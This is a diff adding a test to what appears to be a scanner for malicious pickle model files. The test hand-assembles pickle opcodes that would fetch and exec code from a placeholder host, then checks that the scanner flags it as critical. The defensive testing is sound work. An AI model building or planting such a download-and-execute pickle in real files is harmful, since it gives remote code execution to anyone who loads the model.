@@ -443,3 +443,19 @@ def test_a_plain_pickle_command_is_not_reported_twice(tmp_path):
     path.write_bytes(pickle.dumps(_PlainCommand()))
     result = malhug.scan(path).files[0]
     assert [f.rule for f in result.findings if f.severity >= malhug.Severity.LOW] == ["pickle-dangerous-callable"]
+
+
+def test_pickle_download_and_execute_through_chained_calls(tmp_path):
+    import opcodes as op
+
+    # exec(getattr(urllib.request.urlopen(URL), 'read')()) written as REDUCE chains
+    response = (op.global_("urllib.request", "urlopen") + op.short_binunicode("http://example.invalid/p")
+                + op.tuple1() + op.reduce())
+    reader = op.global_("builtins", "getattr") + response + op.short_binunicode("read") + op.tuple2() + op.reduce()
+    body = reader + op.empty_tuple() + op.reduce()
+    stream = op.proto(2) + op.global_("builtins", "exec") + body + op.tuple1() + op.reduce() + op.stop()
+    path = tmp_path / "model.pkl"
+    path.write_bytes(stream)
+    result = malhug.scan(path).files[0]
+    found = [f for f in result.findings if f.rule == "pickle-download-exec"]
+    assert found and found[0].severity == malhug.Severity.CRITICAL, [f.message for f in result.findings]
